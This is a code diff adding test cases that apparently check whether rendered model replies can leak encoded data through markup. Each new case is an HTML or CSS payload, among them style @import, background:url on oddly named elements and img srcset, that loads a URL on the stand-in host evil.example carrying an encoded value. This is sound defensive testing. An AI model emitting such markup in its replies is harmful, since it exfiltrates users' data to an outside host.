@@ -45,6 +45,15 @@ MARKDOWN_IMAGE = Case(
         "HTML, no scheme": Form("", says(f"Tuesday suits. <img width=1 src=//evil.example/{CODED}.png>")),
         "HTML, slashes turned": Form("", says(f"Tuesday suits. <img src=/\\evil.example/{CODED}>")),
         "a style sheet": Form("", says(f"<link rel=stylesheet href=//evil.example/{CODED}.css>")),
+        "a style": Form("", says(f"<style>@import '//evil.example/{CODED}.css';</style>")),
+        "an element called x.y": Form("", says(f'<x.y style="background:url(//evil.example/{CODED})">Tuesday suits.')),
+        "an element called b_": Form("", says(f"<b_ style='background:url(//evil.example/{CODED})'>Tuesday suits.")),
+        "an element with a quote": Form("", says(f"<b' style=background:url(//evil.example/{CODED})>Tuesday suits.")),
+        "an element with a mark": Form("", says(f"<b\u0301/style=background:url(//evil.example/{CODED})>ok")),
+        "an element like an address": Form(
+            "", says(f"<a@b.example style=background:url(//evil.example/{CODED})>Tuesday suits.")
+        ),
+        "one of several": Form("", says(f'<img srcset="x.png 1x, //evil.example/{CODED}.png 2x">')),
     },
     happened=_an_image_tells,
 )
